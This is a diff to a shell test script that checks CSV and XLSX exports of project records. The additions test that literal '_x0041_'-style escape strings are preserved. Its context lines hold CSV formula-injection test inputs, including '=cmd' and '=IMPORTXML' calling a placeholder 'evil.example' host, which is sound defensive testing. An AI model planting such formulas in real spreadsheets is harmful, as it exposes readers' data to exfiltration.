@@ -11,6 +11,9 @@ expect 0 vl-add -C d project --id P91 \
     --leader '+1+1' --specialist '-2+3' --budget 0
 expect 0 vl-add -C d project --id P92 --town '=1+1' --village "$(printf '\t=cmd')" \
     --leader 000123 --specialist 123456789012345 --budget 0
+# Excel reads _x0041_ in a string as "A": a literal one must stay itself
+expect 0 vl-add -C d project --id P93 --town 河口镇 --village _x0041_村 \
+    --leader a_x005F_b --specialist 专干 --budget 0
 expect 0 vl-inspect -C d add --project P91 --phase check --aspect safety \
     --result fail --finding '=IMPORTXML("http://evil.example/",".")' \
     --due 2023-06-01 --date 2023-05-20
@@ -34,6 +37,15 @@ for f in overdue.csv projects.csv balance.csv; do
 	has $f '@SUM(A1)'
 done
 has overdue.csv '=IMPORTXML'
+has projects.csv 'P93,河口镇,_x0041_村,a_x005F_b'
+# as Excel reads it back: _xHHHH_ decoded, and the literal ones kept
+"$PY" - projects.xlsx <<'PY' || fail "projects.xlsx: _x0041_ not kept"
+import re, sys, zipfile
+ss = zipfile.ZipFile(sys.argv[1]).read('xl/sharedStrings.xml').decode()
+texts = [re.sub(r'_x([0-9A-Fa-f]{4})_', lambda m: chr(int(m.group(1), 16)), t)
+         for t in re.findall(r'<t[^>]*>([^<]*)</t>', ss)]
+assert '_x0041_村' in texts and 'a_x005F_b' in texts, texts
+PY
 # the cells, one by one
 py "
 ws = openpyxl.load_workbook('projects.xlsx').worksheets[0]
